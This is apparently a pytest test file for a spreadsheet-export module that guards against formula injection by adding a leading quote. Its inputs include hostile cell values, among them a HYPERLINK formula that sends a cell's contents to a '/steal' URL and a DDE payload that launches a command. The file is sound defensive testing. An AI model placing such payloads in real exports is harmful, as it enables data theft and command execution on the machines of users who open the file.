"""Text a user typed never runs as a formula in an export (`neutralise`, OWASP's leading quote),
numbers and dates stay what they are, and an upload reads the text back as typed."""

import datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pairaid.spreadsheets import FORMULA_STARTS, csv_text, neutralise, restore, uploaded_text


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://example.org/steal?"&A1,"Click")',
        "+1 555 0100",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(typed):  # type: ignore[no-untyped-def]
    assert neutralise(typed) == "'" + typed
    assert uploaded_text(neutralise(typed)) == typed.strip()


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, Decimal("-12.50"), 0, datetime.date(2020, 2, 12), None, "-12.5", "+3", "1e3"],
)
def test_numbers_and_dates_are_written_as_they_are(value):  # type: ignore[no-untyped-def]
    """A negative number stays a number, never text (and a number typed as text is no
    formula)."""
    assert neutralise(value) == value


def test_other_text_is_written_as_it_is():
    for text in ["Shandong team 1", "CN:421100", "'quoted'", "", "2020-02-12", "#org+name"]:
        assert neutralise(text) == text
        assert restore(text) == text


def test_a_quote_before_a_formula_survives_the_round_trip():
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"


@given(st.text())
def test_what_an_export_writes_an_upload_reads_back_as_typed(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    if written[:1] in FORMULA_STARTS:  # only a plain number ("-12.5") is left as it is
        assert written == text and float(text) is not None


def test_csv_cells_are_neutralised_and_numbers_kept():
    text = csv_text([["note", "quantity"], ["=HYPERLINK(1)", Decimal("-3")]])
    assert text.splitlines() == ["note,quantity", "'=HYPERLINK(1),-3"]
